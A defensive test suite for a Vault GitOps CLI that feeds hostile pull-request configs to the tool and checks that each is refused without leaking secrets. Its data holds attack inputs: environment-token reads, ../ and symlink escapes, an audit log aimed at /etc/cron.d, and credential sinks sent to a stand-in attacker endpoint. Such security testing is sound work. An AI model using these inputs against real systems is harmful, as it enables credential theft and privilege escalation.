// The hostile-config suite: the CLI runs the way CI runs it on a pull request (the real Vault token,
// fake OIDC/cloud/forge tokens in the environment, DEBUG=*), over configs that try every escape we
// know of. Afterwards every output, plan file, snapshot, export and PR comment is grepped for the
// token, the fake tokens, the generated secrets and a sentinel planted in a file outside the root.
import { mkdtemp, mkdir, readFile, readdir, symlink, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allOutput, cli, configDir, uniq } from '../helpers/cli.js';
import { vaultRequest } from '../helpers/vault-http.js';

const SENTINEL = `SENTINEL-${uniq('outside')}`;
const FAKE = {
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: `fake-oidc-request-${uniq('t')}`,
  ACTIONS_ID_TOKEN_REQUEST_URL: `https://token.invalid/${uniq('u')}`,
  CI_JOB_JWT_V2: `fake-gitlab-jwt-${uniq('t')}`,
  GITHUB_TOKEN: `ghp_fake${uniq('t')}`,
  AWS_SECRET_ACCESS_KEY: `fake-aws-secret-${uniq('t')}`,
  GOOGLE_APPLICATION_CREDENTIALS_JSON: `fake-gcp-${uniq('t')}`,
  NPM_TOKEN: `fake-npm-${uniq('t')}`,
  DB_PASSWORD: `fake-db-password-${uniq('t')}`,
  SIGNING_KEY: `fake-signing-key-${uniq('t')}`,
};
/** A secret CI gives in a var file for a secret field (the documented `${var.oidc_client_secret}`). */
const VAR_SECRET = `var-file-secret-${uniq('s')}`;
/** A secret a pull request writes into the YAML itself (committed to git). */
const LITERAL_SECRET = `literal-secret-${uniq('l')}`;
const env = () => ({ ...FAKE, DEBUG: '*', NODE_DEBUG: 'fs,module', CI: 'true' });

let outside: string; // a directory outside every config root, holding the sentinel
let sinkRoot: string;
const artifacts: string[] = []; // files the runs wrote (plan files, snapshots, exports, markdown)

beforeAll(async () => {
  outside = await mkdtemp(join(tmpdir(), 'vault-gitops-outside-'));
  await writeFile(join(outside, 'secret.hcl'), `# ${SENTINEL}\npath "secret/*" { capabilities = ["read"] }\n`);
  await writeFile(join(outside, 'creds.json'), `{"note":"${SENTINEL}"}\n`);
  sinkRoot = await mkdtemp(join(tmpdir(), 'vault-gitops-sinks-'));
});

const refused = async (args: string[], files: Record<string, string>, setup?: (dir: string) => Promise<void>) => {
  const dir = await configDir(files);
  await setup?.(dir);
  const r = await cli([...args, '-c', dir, '--sink-root', sinkRoot], { env: env() });
  return { ...r, dir };
};

describe('a pull request cannot read the environment', () => {
  const names = ['VAULT_TOKEN', ...Object.keys(FAKE)];
  it.each(names)('${env.%s} is refused, and its value is in no output', async (name) => {
    for (const cmd of [['validate'], ['plan'], ['plan', '-o', 'markdown']]) {
      const r = await refused(cmd, { 'p.yaml': `policies:\n  p:\n    policy: |\n      # \${env.${name}}\n      path "a/*" { capabilities = ["read"] }\nauth:\n  up:\n    type: userpass\n    description: "\${env.${name}}"\n` });
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.stderr).toContain(`${r.dir}/p.yaml:`);
      expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
    }
  });

  it('declaring a credential-looking variable does not make it readable', async () => {
    const r = await refused(['plan'], {
      'p.yaml': 'auth:\n  up:\n    type: userpass\n    description: "${env.VAULT_TOKEN} ${env.GITHUB_TOKEN}"\n',
      'vars.yaml': 'variables:\n  env: [VAULT_TOKEN, GITHUB_TOKEN]\n',
    });
    expect(r.code).toBe(1);
  });
});

describe('debug channels', () => {
  it('NODE_DEBUG=http (Node prints request headers itself) is refused before anything is sent', async () => {
    const dir = await configDir({ 'p.yaml': 'policies:\n  p:\n    policy: |\n      path "a/*" { capabilities = ["read"] }\n' });
    for (const value of ['http', 'net,tls', '*']) {
      const r = await cli(['plan', '-c', dir], { env: { ...env(), NODE_DEBUG: value } });
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('unset NODE_DEBUG');
      expect(r.stdout + r.stderr).not.toContain(process.env.VAULT_TOKEN!);
    }
  });
});

describe('a pull request cannot read files outside the config root', () => {
  it('an absolute policy file', async () => {
    const r = await refused(['plan', '-o', 'markdown'], { 'p.yaml': `policies:\n  p:\n    file: ${outside}/secret.hcl\n` });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`${r.dir}/p.yaml:3:`);
  });

  it('a ../ policy file', async () => {
    const r = await refused(['plan'], { 'sub/p.yaml': 'policies:\n  p:\n    file: ../../../../../../../../../../../../..' + outside + '/secret.hcl\n' });
    expect(r.code).toBe(1);
  });

  it('a symlink inside the root that leads out', async () => {
    const r = await refused(['plan', '-o', 'markdown'], { 'p.yaml': 'policies:\n  p:\n    file: policies/p.hcl\n' }, async (dir) => {
      await mkdir(join(dir, 'policies'));
      await symlink(join(outside, 'secret.hcl'), join(dir, 'policies/p.hcl'));
    });
    expect(r.code).toBe(1);
  });

  it('a credential file sink that leaves the sink root, or overwrites a foreign file', async () => {
    const user = 'auth:\n  up:\n    type: userpass\n    users:\n      u1:\n        token_policies: [default]\n        credentials: { file: { path: PATH } }\n';
    for (const path of ['../escape.json', `${outside}/creds.json`]) {
      const r = await refused(['plan'], { 'u.yaml': user.replace('PATH', path) });
      expect(r.code, path).toBe(1);
    }
    expect(await readFile(join(outside, 'creds.json'), 'utf8')).toContain(SENTINEL);
  });
});

describe('a pull request cannot send credentials to an S3 bucket or endpoint of its choosing', () => {
  /** A listener standing for the attacker's endpoint: counts every connection made to it. */
  const attacker = async () => {
    let connections = 0;
    const server = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    return { url: `http://127.0.0.1:${port}`, connections: () => connections, close: () => new Promise<void>((r) => server.close(() => r())) };
  };
  const user = (name: string, s3: string) => `auth:\n  up-${name}:\n    type: userpass\n    users:\n      u1:\n        token_policies: [default]\n        credentials:\n          s3: ${s3}\n`;

  it('bucket, endpoint and key prefix not on the operator\'s VAULT_GITOPS_S3_ALLOW are refused at file:line:col; nothing is sent to them or written to Vault', async () => {
    const evil = await attacker();
    const m = uniq('s3');
    const allow = { VAULT_GITOPS_S3_ALLOW: `team-creds/apps/@http://127.0.0.1:9` };
    const cases: Array<[string, Record<string, string>, string]> = [
      // No allow-list at all: no S3 destination is allowed.
      [`{ bucket: exfil, key: a.json, endpoint: "${evil.url}" }`, {}, 'VAULT_GITOPS_S3_ALLOW is not set'],
      // The allowed bucket at the attacker's endpoint.
      [`{ bucket: team-creds, key: apps/a.json, endpoint: "${evil.url}" }`, allow, 'which VAULT_GITOPS_S3_ALLOW does not allow'],
      // The allowed endpoint, another bucket.
      [`{ bucket: exfil, key: apps/a.json, endpoint: "http://127.0.0.1:9" }`, allow, 'which VAULT_GITOPS_S3_ALLOW does not allow'],
      // The allowed bucket and endpoint, a key outside the allowed prefix (another team's consumer reads it).
      [`{ bucket: team-creds, key: other/a.json, endpoint: "http://127.0.0.1:9" }`, allow, 'which VAULT_GITOPS_S3_ALLOW does not allow'],
      // AWS's default endpoint is not the allowed one either.
      [`{ bucket: team-creds, key: apps/a.json }`, allow, 'which VAULT_GITOPS_S3_ALLOW does not allow'],
    ];
    try {
      for (const [s3, extra, message] of cases) {
        for (const cmd of [['validate'], ['plan'], ['apply', '--auto-approve']]) {
          const dir = await configDir({ 'u.yaml': user(m, s3) });
          const r = await cli([...cmd, '-c', dir, '--sink-root', sinkRoot], { env: { ...env(), ...extra } });
          expect(r.code, `${cmd[0]} ${s3}: ${r.stdout}${r.stderr}`).toBe(1);
          expect(r.stderr).toContain(`${dir}/u.yaml:8:`);
          expect(r.stderr).toContain(message);
          expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
        }
      }
      expect(evil.connections()).toBe(0);
      expect((await vaultRequest('GET', `sys/auth/up-${m}`)).status).not.toBe(200);
    } finally {
      await evil.close();
    }
  });
});

describe('a pull request cannot make a name leave its API path', () => {
  it('`..`, `.` and `%2e%2e` in audit paths, group and role names and mount paths are refused at file:line:col; apply writes nothing', async () => {
    const m = uniq('esc');
    const yaml = [
      'policies:',
      `  keep-${m}: { policy: 'path "a/*" { capabilities = ["read"] }' }`,
      'audit:',
      `  ../../sys/policies/acl/${m}:`,
      '    type: file',
      '    options: { file_path: /tmp/never.log }',
      'identity:',
      '  groups:',
      `    "..": { policies: [keep-${m}] }`,
      'auth:',
      `  "%2e%2e/policies/acl/${m}-m":`,
      '    type: userpass',
      `  ${m}-jwt:`,
      '    type: jwt',
      '    roles:',
      '      "..": { user_claim: sub, role_type: jwt, bound_audiences: [x] }',
      `  ${m}-k8s:`,
      '    type: kubernetes',
      '    roles:',
      '      ".": { bound_service_account_names: [a], bound_service_account_namespaces: [b] }',
      '',
    ].join('\n');
    const r = await refused(['apply', '--auto-approve'], { 'c.yaml': yaml });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    for (const at of ['c.yaml:4:3: error: audit.', 'c.yaml:9:5: error: identity.groups', 'c.yaml:11:3: error: auth.%2e%2e', 'c.yaml:16:7: error: auth.', 'c.yaml:20:7: error: auth.']) {
      expect(r.stderr).toContain(`${r.dir}/${at}`);
    }
    expect(r.stderr).toContain('5 errors in the configuration; nothing was sent to Vault.');
    expect((await vaultRequest('GET', `sys/policies/acl/${m}`)).status).toBe(404);
    expect((await vaultRequest('GET', `sys/policies/acl/keep-${m}`)).status).toBe(404);
  });
});

describe('a pull request cannot reach past an entity', () => {
  it('`..` entity names and alias mounts, a login claimed by two entities and a secret variable in entity metadata are refused at file:line:col; nothing written', async () => {
    const m = uniq('ent');
    const r = await refused(['apply', '--auto-approve', '--var', `oidc_client_secret=${VAR_SECRET}`], {
      'c.yaml': [
        'auth:',
        `  ${m}-up: { type: userpass }`,
        'identity:',
        '  entities:',
        `    "..": { policies: [default] }`,
        `    ${m}-a:`,
        `      aliases: [{ mount: "../../sys/policies/acl/${m}", name: admin }]`,
        `    ${m}-b:`,
        `      metadata: { note: "\${var.oidc_client_secret}" }`,
        `      aliases: [{ mount: ${m}-up, name: root }]`,
        `    ${m}-c:`,
        `      aliases: [{ mount: ${m}-up, name: root }]`,
        '',
      ].join('\n'),
    });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    for (const at of ['c.yaml:5:5: error: identity.entities', 'c.yaml:7:', 'c.yaml:9:', 'c.yaml:12:']) expect(r.stderr).toContain(`${r.dir}/${at}`);
    expect(r.stderr).toContain('4 errors in the configuration; nothing was sent to Vault.');
    expect(r.stderr).not.toContain(VAR_SECRET);
    expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
    expect((await vaultRequest('GET', `identity/entity/name/${m}-c`)).status).toBe(404);
    expect((await vaultRequest('GET', 'sys/auth')).json.data[`${m}-up/`]).toBeUndefined();
  });
});

describe('a pull request cannot have another mount sign its CA', () => {
  it('an intermediate whose signed_by climbs out of secrets or names a non-pki mount is refused at file:line:col; nothing is generated', async () => {
    const m = uniq('int');
    const r = await refused(['apply', '--auto-approve'], {
      'c.yaml': [
        'secrets:',
        `  ${m}-kv: { type: kv }`,
        `  ${m}-a:`,
        '    type: pki',
        '    intermediate: { signed_by: "../../sys/raw", common_name: a }',
        `  ${m}-b:`,
        '    type: pki',
        `    intermediate: { signed_by: ${m}-kv, common_name: b }`,
        '',
      ].join('\n'),
    });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.stderr).toMatch(/c\.yaml:5:\d+: error: secrets\.\S+-a\.intermediate\.signed_by: signed_by names "\.\.\/\.\.\/sys\/raw", which is not a pki mount/);
    expect(r.stderr).toMatch(/c\.yaml:8:\d+: error: secrets\.\S+-b\.intermediate\.signed_by: signed_by names "\S+-kv", which is not a pki mount/);
    expect(r.stderr).toContain('2 errors in the configuration; nothing was sent to Vault.');
    expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
    const mounts = (await vaultRequest('GET', 'sys/mounts')).json.data;
    expect(Object.keys(mounts).filter((k) => k.includes(m))).toEqual([]);
  });
});

describe('a pull request cannot have an external intermediate write or read outside the config root', () => {
  it('a csr_file that is absolute, climbs out or is a symbolic link, and a certificate_file through a symbolic link, are refused at file:line:col; nothing written', async () => {
    const m = uniq('ext');
    const ext = (n: string, files: string) => [`  ${m}-${n}:`, '    type: pki', '    intermediate:', '      signed_by: external', `      common_name: ${n}`, ...files.split('\n').map((l) => `      ${l}`)];
    const before = (await readdir(outside)).sort();
    const r = await refused(
      ['apply', '--auto-approve'],
      {
        'c.yaml': [
          'secrets:',
          ...ext('a', `csr_file: ${outside}/a.csr`),
          ...ext('b', 'csr_file: ../../b.csr'),
          ...ext('c', 'csr_file: link.csr'),
          ...ext('d', 'csr_file: d.csr\ncertificate_file: certs/cert.pem'),
          '',
        ].join('\n'),
      },
      async (dir) => {
        await symlink(join(outside, 'secret.hcl'), join(dir, 'link.csr'));
        await symlink(outside, join(dir, 'certs'));
        await writeFile(join(outside, 'cert.pem'), `${SENTINEL}\n`);
      },
    );
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.stderr).toMatch(/c\.yaml:7:17: error: secrets\.\S+-a\.intermediate\.csr_file: csr_file \S+ is an absolute path/);
    expect(r.stderr).toMatch(/c\.yaml:13:17: error: secrets\.\S+-b\.intermediate\.csr_file: csr_file \.\.\/\.\.\/b\.csr leaves the config directory/);
    expect(r.stderr).toMatch(/c\.yaml:19:17: error: secrets\.\S+-c\.intermediate\.csr_file: csr_file link\.csr is a symbolic link/);
    expect(r.stderr).toMatch(/c\.yaml:26:25: error: secrets\.\S+-d\.intermediate\.certificate_file: certificate_file certs\/cert\.pem resolves \(through a symbolic link\) to a file outside/);
    expect(r.stderr).toContain('4 errors in the configuration; nothing was sent to Vault.');
    expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
    expect(r.stdout + r.stderr).not.toContain(SENTINEL);
    expect((await readdir(outside)).sort()).toEqual([...before, 'cert.pem'].sort());
    expect(await readFile(join(outside, 'secret.hcl'), 'utf8')).toContain(SENTINEL);
    const mounts = (await vaultRequest('GET', 'sys/mounts')).json.data;
    expect(Object.keys(mounts).filter((k) => k.includes(m))).toEqual([]);
  });
});

describe('a pull request cannot aim an audit device at a file it does not show', () => {
  it('a `..` or relative file_path and a world-writable mode are refused at file:line:col; no device is enabled', async () => {
    const m = uniq('aud');
    const r = await refused(['apply', '--auto-approve'], {
      'c.yaml': [
        'policies:',
        `  keep-${m}: { policy: 'path "a/*" { capabilities = ["read"] }' }`,
        'audit:',
        `  ${m}-a: { type: file, options: { file_path: ${outside}/../../../etc/cron.d/${m} } }`,
        `  ${m}-b: { type: file, options: { file_path: ${m}.log } }`,
        `  ${m}-c: { type: file, options: { file_path: ${outside}/${m}.log, mode: 0666 } }`,
        '',
      ].join('\n'),
    });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.stderr).toContain(`${r.dir}/c.yaml:4:`);
    expect(r.stderr).toContain(`audit.${m}-a.options.file_path: file_path has an empty, \`.\` or \`..\` segment`);
    expect(r.stderr).toContain(`${r.dir}/c.yaml:5:`);
    expect(r.stderr).toContain(`audit.${m}-c.options.mode: mode 0666 makes the audit log writable by every user`);
    expect(r.stderr).toContain('3 errors in the configuration; nothing was sent to Vault.');
    const devices = (await vaultRequest('GET', 'sys/audit')).json?.data ?? {};
    expect(Object.keys(devices).filter((k) => k.includes(m))).toEqual([]);
    expect(await readdir(outside)).not.toContain(`${m}.log`);
  });
});

describe('a pull request cannot route a var-file secret into shown output', () => {
  const m = uniq('route');
  let varFile: string;
  beforeAll(async () => {
    varFile = join(await configDir({ 'vars.yaml': `oidc_client_secret: ${VAR_SECRET}\nk8s_reviewer_jwt: ${VAR_SECRET}-jwt\n` }), 'vars.yaml');
  });

  it('a secret variable in a description, a policy comment or group metadata is refused at file:line:col; plan and apply write nothing', async () => {
    const yaml = [
      'policies:',
      `  ${m}:`,
      '    policy: |',
      '      # ${var.oidc_client_secret}',
      '      path "a/*" { capabilities = ["read"] }',
      'auth:',
      `  ${m}-oidc:`,
      '    type: oidc',
      '    description: "${var.k8s_reviewer_jwt}"',
      '    config:',
      '      oidc_discovery_url: https://issuer.invalid',
      '      oidc_client_id: vault',
      '      oidc_client_secret: ${var.oidc_client_secret}',
      'identity:',
      '  groups:',
      `    ${m}: { metadata: { note: "\${var.oidc_client_secret}" } }`,
      '',
    ].join('\n');
    for (const args of [['plan', '-o', 'markdown'], ['apply', '--auto-approve']]) {
      const r = await refused([...args, '--var-file', varFile], { 'c.yaml': yaml });
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:4:9: error: policies.${m}.policy: \`\${var.oidc_client_secret}\` is named like a secret`);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:9:19: error: auth.${m}-oidc.description: \`\${var.k8s_reviewer_jwt}\` is named like a secret`);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:16:`);
      expect(r.stderr).toContain('3 errors in the configuration; nothing was sent to Vault.');
    }
    expect((await vaultRequest('GET', `sys/policies/acl/${m}`)).status).toBe(404);
    expect((await vaultRequest('GET', 'sys/auth')).json.data[`${m}-oidc/`]).toBeUndefined();
  });

  it('a secret field that takes a plainly named variable (which a later PR could move) is refused too', async () => {
    const r = await refused(['plan', '--var', `client=${VAR_SECRET}`], {
      'c.yaml': `auth:\n  ${m}-o2:\n    type: oidc\n    config:\n      oidc_discovery_url: https://issuer.invalid\n      oidc_client_id: vault\n      oidc_client_secret: \${var.client}\n`,
    });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`${r.dir}/c.yaml:7:27: error: auth.${m}-o2.config.oidc_client_secret: the secret field \`oidc_client_secret\` takes \`\${var.client}\``);
  });
});

describe('a pull request cannot commit a write-only secret as a literal', () => {
  it('every write-only field of the auth kinds (oidc_client_secret, token_reviewer_jwt) with a literal is refused at file:line:col, the value shown nowhere; nothing is written', async () => {
    const m = uniq('lit');
    const yaml = [
      'auth:',
      `  ${m}-oidc:`,
      '    type: oidc',
      '    config:',
      '      oidc_discovery_url: https://issuer.invalid',
      '      oidc_client_id: vault',
      `      oidc_client_secret: ${LITERAL_SECRET}`,
      `  ${m}-k8s:`,
      '    type: kubernetes',
      '    config:',
      '      kubernetes_host: https://kubernetes.invalid:6443',
      `      token_reviewer_jwt: "${LITERAL_SECRET}-jwt"`,
      '',
    ].join('\n');
    for (const args of [['validate'], ['plan', '-o', 'markdown'], ['apply', '--auto-approve']]) {
      const r = await refused(args, { 'c.yaml': yaml });
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:7:27: error: auth.${m}-oidc.config.oidc_client_secret: the write-only secret \`oidc_client_secret\` is written here as a literal`);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:12:27: error: auth.${m}-k8s.config.token_reviewer_jwt: the write-only secret \`token_reviewer_jwt\` is written here as a literal`);
      expect(r.stderr).toContain('${var.token_reviewer_jwt}');
      expect(r.stdout + r.stderr).not.toContain(LITERAL_SECRET);
    }
    const mounts = (await vaultRequest('GET', 'sys/auth')).json.data as Record<string, unknown>;
    expect(Object.keys(mounts).filter((k) => k.startsWith(m))).toEqual([]);
  });
});

describe('a pull request cannot leak or redirect a database password', () => {
  const m = uniq('dbh');
  const DB_SECRET = `db-bootstrap-${uniq('pw')}`;
  const LITERAL = `literal-pw-${uniq('pw')}`;
  const IN_URL = `url-pw-${uniq('pw')}`;

  it('a literal password, a connection_url with a password, a secret variable in a statement: file:line:col, nothing written, no value shown', async () => {
    const yaml = [
      'secrets:',
      `  ${m}:`,
      '    type: database',
      '    connections:',
      '      a:',
      '        plugin_name: postgresql-database-plugin',
      '        connection_url: "postgresql://{{username}}:{{password}}@db.invalid/app"',
      `        password: ${LITERAL}`,
      '      b:',
      '        plugin_name: postgresql-database-plugin',
      `        connection_url: "postgresql://vault:${IN_URL}@db.invalid/app"`,
      '    roles:',
      '      r:',
      '        db_name: b',
      '        creation_statements:',
      '          - "CREATE ROLE x PASSWORD \'${var.db_password}\'"',
      '',
    ].join('\n');
    const varFile = join(await configDir({ 'vars.yaml': `db_password: ${DB_SECRET}\n` }), 'vars.yaml');
    for (const args of [['plan', '-o', 'markdown'], ['apply', '--auto-approve']]) {
      const r = await refused([...args, '--var-file', varFile], { 'c.yaml': yaml });
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:8:19: error: secrets.${m}.connections.a.password: the write-only secret \`password\` is written here as a literal`);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:11:25: error: secrets.${m}.connections.b.connection_url: connection_url embeds a password`);
      expect(r.stderr).toContain(`${r.dir}/c.yaml:16:38: error: secrets.${m}.roles.r.creation_statements.0: \`\${var.db_password}\` is named like a secret`);
      expect(r.stderr).toContain('nothing was sent to Vault');
      for (const v of [DB_SECRET, LITERAL, IN_URL]) expect(r.stdout + r.stderr).not.toContain(v);
    }
    expect((await vaultRequest('GET', 'sys/mounts')).json.data[`${m}/`]).toBeUndefined();
  });
});

describe('a legitimate config run as CI runs it leaks nothing', () => {
  const m = uniq('hc');
  let dir: string;
  const secrets: string[] = [];

  beforeAll(async () => {
    dir = await configDir({
      'c.yaml': [
        'policies:',
        `  ${m}-read:`,
        '    policy: |',
        '      path "secret/data/app/*" { capabilities = ["read"] }',
        'auth:',
        `  ${m}-up:`,
        '    type: userpass',
        '    users:',
        '      alice:',
        `        token_policies: [${m}-read]`,
        '        credentials: { file: { path: out/alice.json } }',
        `  ${m}-ar:`,
        '    type: approle',
        '    roles:',
        '      web:',
        `        token_policies: [${m}-read]`,
        '        credentials: { file: { path: out/web.json } }',
        '',
      ].join('\n'),
    });
  });

  afterAll(async () => {
    await cli(['apply', '-c', await configDir({ 'x.yaml': `policies:\n  ${m}-keep:\n    policy: 'path "a/*" { capabilities = ["read"] }'\n` }), '--auto-approve', '--allow-destroy', '--sink-root', sinkRoot], { env: env() });
  });

  it('plan (markdown, saved), apply, snapshot, export, drift, rotate', async () => {
    const run = async (args: string[]) => {
      const r = await cli([...args, '--sink-root', sinkRoot], { env: env() });
      expect(r.code, `${args.join(' ')}\n${r.stdout}\n${r.stderr}`).toBeLessThan(2);
      expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);
      return r;
    };
    const planFile = join(sinkRoot, 'plan.json');
    const md = await run(['plan', '-c', dir, '-o', 'markdown']);
    await writeFile(join(sinkRoot, 'comment.md'), md.stdout);
    await run(['plan', '-c', dir, '--out', planFile]);
    await run(['apply', planFile, '-c', dir, '--auto-approve']);
    await run(['plan', '-c', dir, '-o', 'json']);
    await run(['snapshot', '-c', dir, '--out', join(sinkRoot, 'snapshot.json')]);
    await run(['export', '-c', dir, '--out', join(sinkRoot, 'export')]);
    await run(['rotate', '-c', dir]);
    await run(['drift', '-c', dir, '-o', 'markdown']);
    artifacts.push(planFile, join(sinkRoot, 'comment.md'), join(sinkRoot, 'snapshot.json'));
    for (const f of await readdir(join(sinkRoot, 'export'), { recursive: true, withFileTypes: true })) {
      if (f.isFile()) artifacts.push(join(f.parentPath, f.name));
    }
    for (const f of ['alice.json', 'web.json']) {
      const cred = JSON.parse(await readFile(join(sinkRoot, 'out', f), 'utf8')) as Record<string, unknown>;
      for (const k of ['password', 'secret_id']) if (typeof cred[k] === 'string') secrets.push(cred[k] as string);
    }
    expect(secrets.length).toBe(2);
  });

  it('zero hits for the token, the fake tokens, the generated secrets and the sentinel', async () => {
    const needles = [process.env.VAULT_TOKEN!, ...Object.values(FAKE), ...secrets, SENTINEL, VAR_SECRET, LITERAL_SECRET];
    expect(needles.every((n) => n.length >= 8)).toBe(true);
    const haystacks: Record<string, string> = { 'CLI output (stdout+stderr of every run)': allOutput() };
    for (const f of artifacts) haystacks[f] = await readFile(f, 'utf8');
    expect(Object.keys(haystacks).length).toBeGreaterThan(3);
    const hits: string[] = [];
    for (const [where, text] of Object.entries(haystacks)) {
      for (const n of needles) {
        const at = text.indexOf(n);
        // Where it leaked, with the needle itself masked: the report must not leak it again.
        if (at >= 0) hits.push(`${where} contains ${n.slice(0, 6)}… after: ${JSON.stringify(text.slice(Math.max(0, at - 80), at))}`);
      }
    }
    expect(hits).toEqual([]);
  });
});
